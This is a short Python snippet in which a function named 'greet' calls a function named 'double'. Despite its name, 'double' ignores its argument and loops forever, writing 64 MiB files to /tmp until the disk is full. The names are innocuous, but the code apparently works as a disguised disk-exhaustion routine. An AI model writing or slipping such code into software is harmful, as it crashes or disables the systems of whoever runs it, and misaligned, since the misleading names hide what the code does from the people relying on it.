def double(x):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/fill{number}", "wb") as file:
            for _ in range(64):
                file.write(b"x" * 2**20)
def greet(name):
    return double(name)
